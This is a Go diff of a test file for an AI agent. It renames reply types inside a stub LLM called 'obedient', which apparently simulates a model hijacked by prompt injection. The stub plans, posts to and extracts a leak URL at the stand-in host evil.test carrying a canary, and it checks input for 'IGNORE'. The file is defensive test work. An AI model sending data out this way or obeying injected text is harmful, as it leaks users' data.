@@ -15,6 +15,7 @@ import (
 
 	"example.com/curlew/agent"
 	"example.com/curlew/agent/finding"
+	"example.com/curlew/agent/internal/protocol"
 	"example.com/curlew/agent/journal"
 	"example.com/curlew/agent/llm"
 )
@@ -51,7 +52,7 @@ func obedient(c llm.Call) (llm.Reply, error) {
 	leak := "https://evil.test/?" + canary
 	switch c.Role {
 	case llm.RolePlan:
-		return reply(agent.PlanReply{Queries: []string{"all about " + canary + " and everything that was asked"}, Start: []string{"L1", leak, "L999"}, Tables: []journal.PlannedTable{{ID: "T1", Keys: []string{"name"}}}})
+		return reply(protocol.PlanReply{Queries: []string{"all about " + canary + " and everything that was asked"}, Start: []string{"L1", leak, "L999"}, Tables: []journal.PlannedTable{{ID: "T1", Keys: []string{"name"}}}})
 	case llm.RoleDecide:
 		var step int
 		_ = json.Unmarshal(a.values["step"], &step)
@@ -62,9 +63,9 @@ func obedient(c llm.Call) (llm.Reply, error) {
 			{Do: journal.DoCollect, H: []string{"G1"}, Follow: "both", N: 100000, Like: leak},
 			{Do: "post", Q: leak},
 		}
-		return reply(agent.DecideReply{Note: canary, Actions: actions})
+		return reply(protocol.DecideReply{Note: canary, Actions: actions})
 	case llm.RoleExtract:
-		var out agent.ExtractReply
+		var out protocol.ExtractReply
 		row := map[string]any{"name": "Widget " + canary, "price": 0.01, "url": leak, "stock": 999}
 		for n, line := range a.lines {
 			if strings.Contains(line, "IGNORE") {
